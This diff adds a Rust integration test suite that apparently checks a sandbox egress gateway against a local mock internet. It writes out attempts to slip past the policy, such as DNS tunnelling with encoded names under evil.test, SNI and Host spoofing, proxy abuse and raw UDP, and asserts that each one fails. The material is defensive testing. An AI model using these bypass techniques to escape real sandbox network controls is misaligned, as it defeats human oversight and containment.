@@ -1,0 +1,559 @@
+//! Egress by name, attacked from inside real sandboxes.
+//!
+//! "The internet" is made here: two servers (`pypi.test`, which is also
+//! `mirror.test`, and `evil.test`) in containers on a network of their own,
+//! serving HTTP on 80 and HTTPS on 443 and 8443 with a test CA made for
+//! this run, a package index with one tiny wheel and a git repository over
+//! HTTPS. The sandboxes' image is `corral-test/net` with the test CA
+//! trusted. The gateways reach out through the internet's network
+//! (`daemon.egress_network`), whose resolver knows the servers' names.
+//!
+//! The sandbox policy of most cases: allow `pypi.test` (80 and 443) and
+//! `mirror.test:8443`. Each allowed path is checked to work, and each way
+//! around the policy is its own test and must fail.
+
+mod common;
+
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::sync::{Arc, Mutex, OnceLock};
+use std::time::Duration;
+
+use corral::{Runtime, RuntimeConfig, Sandbox};
+use corral_core::egress::EgressPolicy;
+use corral_core::{CommandSpec, Network};
+use corral_docker::{DockerBackend, DockerConfig};
+
+/// One internet per test binary.
+struct Internet {
+    tag: String,
+    network: String,
+    image: String,
+    evil_ip: String,
+    pypi_ip: String,
+    dir: PathBuf,
+}
+
+static INTERNET: OnceLock<Internet> = OnceLock::new();
+static SANDBOXES: Mutex<Vec<String>> = Mutex::new(Vec::new());
+
+const SERVER: &str = r#"
+import base64, hashlib, http.server, io, os, ssl, subprocess, sys, threading, zipfile
+name = sys.argv[1]
+os.makedirs("/srv/www", exist_ok=True)
+def wheel():
+    files = {"tinypkg/__init__.py": b"GREETING = 'tinypkg from the local index'\n",
+             "tinypkg-0.1.dist-info/METADATA": b"Metadata-Version: 2.1\nName: tinypkg\nVersion: 0.1\n",
+             "tinypkg-0.1.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: corral-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
+    record = ""
+    for p, b in files.items():
+        h = base64.urlsafe_b64encode(hashlib.sha256(b).digest()).rstrip(b"=").decode()
+        record += f"{p},sha256={h},{len(b)}\n"
+    record += "tinypkg-0.1.dist-info/RECORD,,\n"
+    files["tinypkg-0.1.dist-info/RECORD"] = record.encode()
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        for p, b in files.items():
+            z.writestr(p, b)
+    return buf.getvalue()
+WHEEL = wheel()
+subprocess.run("set -e; git init -q /srv/work; cd /srv/work; echo cloned-from-the-test-host > README; "
+               "git -c user.name=t -c user.email=t@t add README; git -c user.name=t -c user.email=t@t commit -qm init; "
+               "git clone -q --bare /srv/work /srv/www/repo.git; git -C /srv/www/repo.git update-server-info",
+               shell=True, check=True)
+class H(http.server.SimpleHTTPRequestHandler):
+    def __init__(self, *a, **k):
+        super().__init__(*a, directory="/srv/www", **k)
+    def log_message(self, *a):
+        pass
+    def send_body(self, body, ctype="text/plain"):
+        self.send_response(200)
+        self.send_header("Content-Type", ctype)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+    def do_GET(self):
+        host = self.headers.get("Host", "")
+        if self.path.startswith("/simple/tinypkg"):
+            self.send_body(b'<html><body><a href="/files/tinypkg-0.1-py3-none-any.whl">tinypkg-0.1-py3-none-any.whl</a></body></html>', "text/html")
+        elif self.path == "/files/tinypkg-0.1-py3-none-any.whl":
+            self.send_body(WHEEL, "application/octet-stream")
+        elif self.path.startswith("/repo.git"):
+            super().do_GET()
+        else:
+            self.send_body(f"hello from {name} (Host {host})\n".encode())
+http.server.ThreadingHTTPServer.daemon_threads = True
+def serve(port, tls):
+    srv = http.server.ThreadingHTTPServer(("0.0.0.0", port), H)
+    if tls:
+        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+        ctx.load_cert_chain("/certs/server.crt", "/certs/server.key")
+        srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
+    srv.serve_forever()
+for port, tls in [(443, True), (8443, True)]:
+    threading.Thread(target=serve, args=(port, tls), daemon=True).start()
+serve(80, False)
+"#;
+
+fn run(cmd: &mut Command) -> String {
+    let out = cmd.output().expect("run a command");
+    assert!(
+        out.status.success(),
+        "{cmd:?} failed: {}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8_lossy(&out.stdout).trim().to_string()
+}
+
+fn docker(args: &[&str]) -> String {
+    run(Command::new("docker").args(args))
+}
+
+extern "C" fn tear_down() {
+    let ids: Vec<String> = SANDBOXES.lock().map(|s| s.clone()).unwrap_or_default();
+    for id in ids {
+        let _ = Command::new("docker")
+            .args(["rm", "-f", &format!("corral-egress-gw-{id}")])
+            .output();
+        let _ = Command::new("docker")
+            .args(["network", "rm", &format!("corral-egress-{id}")])
+            .output();
+    }
+    if let Some(net) = INTERNET.get() {
+        let _ = Command::new("docker")
+            .args(["rm", "-f", &format!("{}-pypi", net.tag), &format!("{}-evil", net.tag)])
+            .output();
+        let _ = Command::new("docker").args(["network", "rm", &net.network]).output();
+        let _ = Command::new("docker").args(["rmi", "-f", &net.image]).output();
+        let _ = std::fs::remove_dir_all(&net.dir);
+    }
+}
+
+fn openssl(dir: &Path, args: &[&str]) {
+    run(Command::new("openssl").current_dir(dir).args(args));
+}
+
+fn internet() -> &'static Internet {
+    INTERNET.get_or_init(|| {
+        common::images();
+        assert!(
+            Command::new("docker")
+                .args(["image", "inspect", "corral-test/net"])
+                .output()
+                .is_ok_and(|o| o.status.success()),
+            "these tests need corral-test/net: scripts/build-test-images.sh --net"
+        );
+        // SAFETY: registering a plain extern "C" function with no captured state.
+        unsafe { libc::atexit(tear_down) };
+        let tag = format!("corral-egtest-{}", std::process::id());
+        let dir = std::env::temp_dir().join(&tag);
+        std::fs::create_dir_all(&dir).expect("temp dir");
+        openssl(&dir, &["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", "ca.key", "-out", "ca.crt", "-days", "2", "-subj", "/CN=corral test CA"]);
+        openssl(&dir, &["req", "-newkey", "rsa:2048", "-nodes", "-keyout", "server.key", "-out", "server.csr", "-subj", "/CN=pypi.test"]);
+        std::fs::write(
+            dir.join("san.ext"),
+            "subjectAltName=DNS:pypi.test,DNS:mirror.test,DNS:evil.test\n",
+        )
+        .expect("write san");
+        openssl(&dir, &["x509", "-req", "-in", "server.csr", "-CA", "ca.crt", "-CAkey", "ca.key", "-CAcreateserial", "-out", "server.crt", "-days", "2", "-extfile", "san.ext"]);
+        std::fs::write(dir.join("serve.py"), SERVER).expect("write server");
+        std::fs::write(
+            dir.join("Dockerfile"),
+            "FROM corral-test/net\nCOPY ca.crt /usr/local/share/ca-certificates/corral-test.crt\n\
+             RUN update-ca-certificates >/dev/null\n\
+             COPY serve.py server.crt server.key /certs/\n",
+        )
+        .expect("write Dockerfile");
+        let image = format!("{tag}-image");
+        docker(&["build", "-q", "-t", &image, dir.to_str().expect("utf-8 path")]);
+        let network = format!("{tag}-inet");
+        docker(&["network", "create", "--label", "corral.egtest=1", &network]);
+        let server = |who: &str, aliases: &[&str]| {
+            let name = format!("{tag}-{who}");
+            let mut args = vec!["run", "-d", "--name", &name, "--label", "corral.egtest=1", "--network", &network];
+            for a in aliases {
+                args.extend(["--network-alias", a]);
+            }
+            args.extend([image.as_str(), "python3", "/certs/serve.py", who]);
+            docker(&args);
+            docker(&["inspect", "-f", "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}", &name])
+        };
+        let pypi_ip = server("pypi", &["pypi.test", "mirror.test"]);
+        let evil_ip = server("evil", &["evil.test"]);
+        Internet {
+            tag,
+            network,
+            image,
+            evil_ip,
+            pypi_ip,
+            dir,
+        }
+    })
+}
+
+fn policy(allow: &[&str], deny: &[&str]) -> Network {
+    Network::Egress(EgressPolicy {
+        allow: allow.iter().map(|s| s.to_string()).collect(),
+        deny: deny.iter().map(|s| s.to_string()).collect(),
+    })
+}
+
+struct Sb {
+    runtime: Runtime,
+    backend: Arc<DockerBackend>,
+    sandbox: Sandbox,
+}
+
+impl Sb {
+    async fn with(network: Network) -> Sb {
+        let net = internet();
+        let backend = Arc::new(
+            DockerBackend::connect(&DockerConfig {
+                egress_network: Some(net.network.clone()),
+                ..DockerConfig::default()
+            })
+            .await
+            .expect("these tests need a Docker daemon"),
+        );
+        let runtime = Runtime::new(backend.clone(), RuntimeConfig::default());
+        let mut spec = corral_core::SandboxSpec::new(&net.image);
+        spec.labels.insert("corraltest".into(), "egress".into());
+        spec.network = network;
+        let sandbox = runtime.create(&spec).await.expect("create the sandbox");
+        if let Ok(mut s) = SANDBOXES.lock() {
+            s.push(sandbox.id().to_string());
+        }
+        Sb {
+            runtime,
+            backend,
+            sandbox,
+        }
+    }
+
+    async fn new() -> Sb {
+        Sb::with(policy(&["pypi.test", "mirror.test:8443"], &["169.254.0.0/16"])).await
+    }
+
+    /// Runs `script`; returns stdout+stderr and the exit code.
+    async fn sh(&self, script: &str) -> (String, i32) {
+        let r = self
+            .sandbox
+            .run(&CommandSpec::shell(format!("{script} 2>&1")).timeout(Duration::from_secs(60)))
+            .await;
+        (String::from_utf8_lossy(&r.stdout).into_owned(), r.exit_code.unwrap_or(-1))
+    }
+
+    async fn stats(&self) -> corral_docker::egress::EgressStats {
+        self.backend
+            .egress_stats(self.sandbox.id())
+            .await
+            .expect("read the gateway's counts")
+    }
+
+    async fn close(self) {
+        let id = self.sandbox.id().to_string();
+        self.sandbox.destroy().await.expect("destroy");
+        drop(self.runtime);
+        let left = run(Command::new("docker").args([
+            "ps",
+            "-aq",
+            "--filter",
+            &format!("name=corral-egress-gw-{id}"),
+        ]));
+        assert_eq!(left, "", "the gateway of {id} outlived its sandbox");
+    }
+}
+
+/// curl with a short connect timeout; prints the body or curl's error.
+fn curl(args: &str) -> String {
+    format!("curl -sS --max-time 20 --connect-timeout 5 {args}")
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn allowed_names_work_over_http_and_https() {
+    let sb = Sb::new().await;
+    let (out, rc) = sb.sh(&curl("https://pypi.test/")).await;
+    assert_eq!((out.as_str(), rc), ("hello from pypi (Host pypi.test)\n", 0));
+    let (out, rc) = sb.sh(&curl("http://pypi.test/")).await;
+    assert_eq!((out.as_str(), rc), ("hello from pypi (Host pypi.test)\n", 0));
+    // A rule's own port, TLS verified against the test CA: not terminated.
+    let (out, rc) = sb.sh(&curl("https://mirror.test:8443/")).await;
+    assert_eq!((out.as_str(), rc), ("hello from pypi (Host mirror.test:8443)\n", 0));
+    let (out, _) = sb
+        .sh(&curl("-v https://pypi.test/ -o /dev/null 2>&1 | grep -i 'issuer'"))
+        .await;
+    assert!(out.contains("corral test CA"), "the server's own certificate: {out}");
+    let stats = sb.stats().await;
+    assert!(stats.connections_allowed >= 4, "{stats:?}");
+    assert_eq!(stats.connections_refused, 0, "{stats:?}");
+    sb.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn pip_installs_from_the_local_index() {
+    let sb = Sb::new().await;
+    let (out, rc) = sb
+        .sh("pip install --no-cache-dir --disable-pip-version-check --target /tmp/site \
+             --index-url https://pypi.test/simple tinypkg && \
+             PYTHONPATH=/tmp/site python3 -c 'import tinypkg; print(tinypkg.GREETING)'")
+        .await;
+    assert_eq!(rc, 0, "{out}");
+    assert!(out.ends_with("tinypkg from the local index\n"), "{out}");
+    sb.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn git_clones_over_https() {
+    let sb = Sb::new().await;
+    let (out, rc) = sb
+        .sh("git clone -q https://pypi.test/repo.git /tmp/repo && cat /tmp/repo/README")
+        .await;
+    assert_eq!((out.as_str(), rc), ("cloned-from-the-test-host\n", 0));
+    sb.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_name_not_allowed_does_not_resolve_and_is_counted() {
+    let sb = Sb::new().await;
+    let (out, rc) = sb.sh(&curl("https://evil.test/")).await;
+    assert_eq!(rc, 6, "curl: could not resolve: {out}");
+    assert!(out.contains("Could not resolve host: evil.test"), "{out}");
+    let (out, rc) = sb.sh(&curl("http://evil.test/")).await;
+    assert_eq!(rc, 6, "{out}");
+    let stats = sb.stats().await;
+    assert!(stats.dns_refused >= 2, "{stats:?}");
+    assert!(
+        stats.recent_refusals.iter().any(|r| r == "dns evil.test"),
+        "{stats:?}"
+    );
+    // Counted per sandbox: another sandbox's gateway saw none of it.
+    let other = Sb::new().await;
+    assert_eq!(other.stats().await.dns_refused, 0);
+    other.close().await;
+    sb.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_ip_literal_has_no_route() {
+    let sb = Sb::new().await;
+    let net = internet();
+    for ip in [&net.evil_ip, &net.pypi_ip] {
+        let (out, rc) = sb.sh(&curl(&format!("http://{ip}/"))).await;
+        assert_eq!(rc, 7, "{ip}: {out}");
+        assert!(out.contains("unreachable"), "{ip}: {out}");
+        let (out, rc) = sb.sh(&curl(&format!("-k https://{ip}/"))).await;
+        assert_eq!(rc, 7, "{ip}: {out}");
+    }
+    sb.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn another_port_is_refused() {
+    let sb = Sb::new().await;
+    // The gateway serves 8443 for mirror.test only.
+    let (out, rc) = sb.sh(&curl("https://pypi.test:8443/")).await;
+    assert_ne!(rc, 0, "{out}");
+    assert!(out.contains("access denied"), "a TLS alert: {out}");
+    // Nothing listens on a port no rule names.
+    let (out, rc) = sb.sh(&curl("http://pypi.test:8080/")).await;
+    assert_eq!(rc, 7, "{out}");
+    assert!(out.contains("refused"), "{out}");
+    let (out, rc) = sb.sh(&curl(&format!("http://{}:22/", internet().pypi_ip))).await;
+    assert_eq!(rc, 7, "{out}");
+    sb.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn ipv6_has_no_route() {
+    let sb = Sb::new().await;
+    let (out, rc) = sb.sh(&curl("-6 https://pypi.test/")).await;
+    assert_ne!(rc, 0, "{out}");
+    let (out, _) = sb
+        .sh("python3 -c \"
+import socket
+s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); s.settimeout(5)
+try:
+    s.connect(('2001:db8::1', 443)); print('connected')
+except OSError as e:
+    print('refused', e.errno)
+print('aaaa', socket.getaddrinfo('pypi.test', 443, socket.AF_INET6) if False else '')
+\"")
+        .await;
+    assert!(out.starts_with("refused"), "{out}");
+    let (out, _) = sb.sh("cat /proc/net/if_inet6 | grep -v ' lo$' | wc -l").await;
+    assert_eq!(out.trim(), "0", "no IPv6 address but loopback");
+    sb.close().await;
+}
+
+const UDP: &str = r#"python3 -c "
+import socket, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
+try:
+    s.sendto(b'x' * 1200, (sys.argv[1], int(sys.argv[2]))); s.recv(100); print('answered')
+except OSError as e:
+    print('failed', e.errno, e)
+""#;
+
+#[tokio::test(flavor = "multi_thread")]
+async fn udp_and_quic_have_no_route() {
+    let sb = Sb::new().await;
+    let net = internet();
+    // QUIC is UDP 443; the gateway's own address answers DNS only.
+    for (ip, port) in [(net.evil_ip.as_str(), "443"), (net.pypi_ip.as_str(), "443"), ("8.8.8.8", "443")] {
+        let (out, _) = sb.sh(&format!("{UDP} {ip} {port}")).await;
+        assert!(out.starts_with("failed 101"), "UDP to {ip}:{port}: {out}");
+    }
+    sb.close().await;
+}
+
+const DIG: &str = r#"python3 -c "
+import socket, struct, sys, random
+server, name, qtype = sys.argv[1], sys.argv[2], int(sys.argv[3])
+q = struct.pack('>HHHHHH', random.randrange(65536), 0x100, 1, 0, 0, 0)
+q += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0' + struct.pack('>HH', qtype, 1)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
+try:
+    s.sendto(q, (server, 53)); r = s.recv(1500)
+    print('rcode', r[3] & 15, 'answers', struct.unpack('>H', r[6:8])[0])
+except OSError as e:
+    print('failed', e.errno, e)
+""#;
+
+#[tokio::test(flavor = "multi_thread")]
+async fn dns_to_another_resolver_has_no_route() {
+    let sb = Sb::new().await;
+    let net = internet();
+    for server in [net.evil_ip.as_str(), "8.8.8.8", "1.1.1.1"] {
+        let (out, _) = sb.sh(&format!("{DIG} {server} evil.test 1")).await;
+        assert!(out.starts_with("failed 101"), "DNS to {server}: {out}");
+    }
+    sb.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn dns_tunnelling_through_the_resolver_gets_nothing() {
+    let sb = Sb::new().await;
+    let (resolver, _) = sb.sh("awk '/^nameserver/ {print $2; exit}' /etc/resolv.conf").await;
+    let resolver = resolver.trim();
+    // Data smuggled in names of a domain not allowed: NXDOMAIN, from the gateway.
+    for name in ["c2VjcmV0.evil.test", "exfil.data.example.com", "x.pypi.test"] {
+        let (out, _) = sb.sh(&format!("{DIG} {resolver} {name} 1")).await;
+        assert!(out.starts_with("rcode 3 answers 0"), "{name}: {out}");
+    }
+    // Record types that carry data back (TXT, MX) get no answer even for an
+    // allowed name; nor does AAAA (no IPv6 path).
+    for qtype in [16, 15, 28] {
+        let (out, _) = sb.sh(&format!("{DIG} {resolver} pypi.test {qtype}")).await;
+        assert!(out.starts_with("rcode 0 answers 0"), "type {qtype}: {out}");
+    }
+    let (out, _) = sb.sh(&format!("{DIG} {resolver} pypi.test 1")).await;
+    assert!(out.starts_with("rcode 0 answers 1"), "{out}");
+    let stats = sb.stats().await;
+    assert!(
+        stats.recent_refusals.iter().any(|r| r == "dns c2vjcmv0.evil.test"),
+        "{stats:?}"
+    );
+    sb.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn sni_or_host_of_an_allowed_name_gets_nowhere_else() {
+    let sb = Sb::new().await;
+    let net = internet();
+    // SNI and Host of pypi.test, connecting to evil's address: no route.
+    let (out, rc) = sb
+        .sh(&curl(&format!("--resolve pypi.test:443:{} https://pypi.test/", net.evil_ip)))
+        .await;
+    assert_eq!(rc, 7, "{out}");
+    let (out, rc) = sb
+        .sh(&curl(&format!("-H 'Host: pypi.test' http://{}/", net.evil_ip)))
+        .await;
+    assert_eq!(rc, 7, "{out}");
+    // SNI of evil.test sent to the gateway (the address pypi.test resolves to).
+    let (gw, _) = sb.sh("getent hosts pypi.test | cut -d' ' -f1").await;
+    let gw = gw.trim();
+    let (out, rc) = sb
+        .sh(&curl(&format!("--resolve evil.test:443:{gw} https://evil.test/")))
+        .await;
+    assert_ne!(rc, 0, "{out}");
+    assert!(out.contains("access denied"), "{out}");
+    // Host of evil.test through the gateway, over plain HTTP.
+    let (out, rc) = sb.sh(&curl("-H 'Host: evil.test' http://pypi.test/")).await;
+    assert_eq!(rc, 0, "{out}");
+    assert_eq!(
+        out,
+        "corral egress: evil.test:80 is not allowed by this sandbox's egress policy\n"
+    );
+    let stats = sb.stats().await;
+    assert_eq!(stats.connections_refused, 2, "{stats:?}");
+    sb.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_commands_own_http_proxy_gets_nowhere() {
+    let sb = Sb::new().await;
+    let net = internet();
+    // A proxy at an outside address: no route.
+    let (out, rc) = sb
+        .sh(&format!(
+            "HTTPS_PROXY=http://{}:3128 {}",
+            net.evil_ip,
+            curl("https://pypi.test/")
+        ))
+        .await;
+    assert_eq!(rc, 7, "{out}");
+    // The gateway used as a forward proxy: absolute URLs and CONNECT refused.
+    let (out, _) = sb
+        .sh(&format!("http_proxy=http://pypi.test:80 {}", curl("http://evil.test/")))
+        .await;
+    assert!(out.contains("proxy request"), "{out}");
+    let (out, rc) = sb
+        .sh(&format!("HTTPS_PROXY=http://pypi.test:80 {}", curl("https://evil.test/")))
+        .await;
+    assert_ne!(rc, 0, "{out}");
+    assert!(!out.contains("hello from evil"), "{out}");
+    sb.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn deny_wins_and_cidrs_bound_where_names_lead() {
+    let net = internet();
+    // pypi.test is allowed by name but its address is denied.
+    let sb = Sb::with(policy(&["pypi.test", "evil.test"], &[&format!("{}/32", net.pypi_ip), "evil.test"])).await;
+    let (out, rc) = sb.sh(&curl("https://pypi.test/")).await;
+    assert_ne!(rc, 0, "{out}");
+    assert!(out.contains("access denied"), "{out}");
+    let (out, rc) = sb.sh(&curl("https://evil.test/")).await;
+    assert_eq!(rc, 6, "{out}");
+    let stats = sb.stats().await;
+    assert!(
+        stats
+            .recent_refusals
+            .iter()
+            .any(|r| r.contains("resolves to no address this sandbox may reach")),
+        "{stats:?}"
+    );
+    sb.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_host_behind_the_internal_network_is_not_reachable() {
+    let sb = Sb::new().await;
+    // The bridge's own address is the host's: a server on the host's
+    // wildcard address must not answer the sandbox.
+    let listener = std::net::TcpListener::bind("0.0.0.0:0").expect("bind");
+    let port = listener.local_addr().expect("addr").port();
+    std::thread::spawn(move || {
+        for mut c in listener.incoming().flatten() {
+            use std::io::Write;
+            let _ = c.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 13\r\n\r\nhost-reached\n");
+        }
+    });
+    let (host, _) = sb.sh("ip=$(hostname -i | cut -d' ' -f1); echo ${ip%.*}.1").await;
+    let host = host.trim();
+    let (out, rc) = sb.sh(&curl(&format!("http://{host}:{port}/"))).await;
+    assert!(!out.contains("host-reached"), "reached the host at {host}: {out}");
+    assert_ne!(rc, 0, "{out}");
+    sb.close().await;
+}
